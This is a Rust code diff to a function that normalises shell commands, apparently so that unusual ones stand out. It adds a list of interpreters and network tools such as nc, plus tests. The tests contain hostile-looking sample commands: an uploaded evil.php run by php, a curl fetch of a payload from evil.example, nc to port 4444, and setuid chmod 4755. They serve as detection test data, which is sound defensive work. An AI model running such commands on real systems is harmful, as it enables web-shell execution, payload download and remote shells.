@@ -7,6 +7,11 @@ use std::fmt::Write;
 const WORDS_MAX: usize = 1000;
 /// Programs whose first word is another one.
 const STARTERS: [&str; 9] = ["exec", "env", "nice", "nohup", "setsid", "sudo", "time", "command", "stdbuf"];
+/// Programs of which a file is what they do, and the numbers are.
+const WHOLE: [&str; 18] = [
+    "php", "phar", "python", "perl", "ruby", "node", "nodejs", "lua", "java", "sh", "bash", "dash", "ash", "zsh",
+    "ksh", "chmod", "nc", "ncat",
+];
 /// A longer word is a code or a name of a file.
 const LONG: usize = 32;
 /// A longer end of a name is no kind of file.
@@ -18,7 +23,7 @@ const KIND_MAX: usize = 8;
 pub fn of_command(line: &str) -> String {
     let mut out = String::with_capacity(line.len());
     let mut words = 0;
-    let mut is_program = true;
+    let (mut is_program, mut is_whole) = (true, false);
     if line.ends_with(crate::CUT) {
         let _ = write!(out, "{:x} ", stable(line));
     }
@@ -31,7 +36,11 @@ pub fn of_command(line: &str) -> String {
         }
         if !word.is_empty() {
             match is_program {
-                true => out.push_str(word),
+                true => {
+                    is_whole = takes_whole(word);
+                    out.push_str(word);
+                }
+                false if is_whole => out.push_str(word),
                 false => of_word(word, &mut out),
             }
             out.push(' ');
@@ -49,6 +58,12 @@ pub fn of_command(line: &str) -> String {
     out
 }
 
+/// Whether each word of a program's command tells it from others: what an interpreter runs is its file.
+fn takes_whole(program: &str) -> bool {
+    let name = program.rsplit('/').next().unwrap_or_default();
+    WHOLE.contains(&name.trim_end_matches(|one: char| one.is_ascii_digit() || one == '.'))
+}
+
 /// A character by which a shell does something else than passing a word on.
 fn is_operator(character: char) -> bool {
     matches!(character, ';' | '|' | '&' | '`' | '$' | '(' | ')' | '<' | '>' | '\n')
@@ -64,10 +79,17 @@ fn of_word(word: &str, out: &mut String) {
         let _ = write!(out, "{scheme}://{host}");
         return;
     }
-    let name = word.rsplit('/').next().unwrap_or_default();
+    if word.parse::<std::net::IpAddr>().is_ok() {
+        out.push_str(word);
+        return;
+    }
+    let (first, name) = (word.split('/').next().unwrap_or_default(), word.rsplit('/').next().unwrap_or_default());
     let kind = name.rsplit_once('.').map(|(_, kind)| kind).filter(|kind| kind.len() <= KIND_MAX).unwrap_or_default();
     if word.starts_with('/') {
         let _ = write!(out, "/{}/*.{kind}", word.split('/').nth(1).unwrap_or_default());
+    } else if first.len() < word.len() && (first.contains(['.', ':', '@']) && first != "." && first != "..") {
+        // A host, whose files differ.
+        let _ = write!(out, "{first}/*.{kind}");
     } else if word.contains('/') || word.chars().count() > LONG {
         let _ = write!(out, "*.{kind}");
     } else {
@@ -95,6 +117,26 @@ mod tests {
         assert_ne!(of_command("sh -c id"), of_command("sh -c w"));
         assert_eq!(of_command("curl https://a.example/x1"), of_command("curl https://a.example/y?z"));
         assert_ne!(of_command("curl https://a.example/x1"), of_command("curl https://b.example/x1"));
+    }
+
+    /// Another script, another host, another right: not the files of one.
+    #[test]
+    fn what_a_program_runs_and_whom_it_asks_is_told_apart() {
+        for (ordinary, other) in [
+            ("php /srv/www/shop/cron.php", "php /srv/www/shop/uploads/evil.php"),
+            ("/usr/bin/php8.2 /srv/www/shop/cron.php", "/usr/bin/php8.2 /srv/www/shop/uploads/evil.php"),
+            ("sh -c 'python3 jobs/a.py'", "sh -c 'python3 uploads/a.py'"),
+            ("bash /srv/jobs/mail.sh", "bash /srv/www/uploads/x.sh"),
+            ("curl -s api.example/v1/ping", "curl -s evil.example/payload"),
+            ("scp a.txt backup@one.example:/srv/a.txt", "scp a.txt backup@two.example:/srv/a.txt"),
+            ("ping 192.0.2.1", "ping 192.0.2.2"),
+            ("nc 192.0.2.1 80", "nc 192.0.2.1 4444"),
+            ("chmod 0644 a", "chmod 4755 a"),
+        ] {
+            assert_ne!(of_command(ordinary), of_command(other), "{other}");
+        }
+        assert_eq!(of_command("curl -s api.example/v1/ping7"), of_command("curl -s api.example/v1/ping8"));
+        assert_eq!(of_command("convert ./in/1.jpg ../out/1.jpg"), of_command("convert ./in/2.jpg ../out/2.jpg"));
     }
 
     /// What looks like an ordinary command at its beginning, or in its files, is not one.
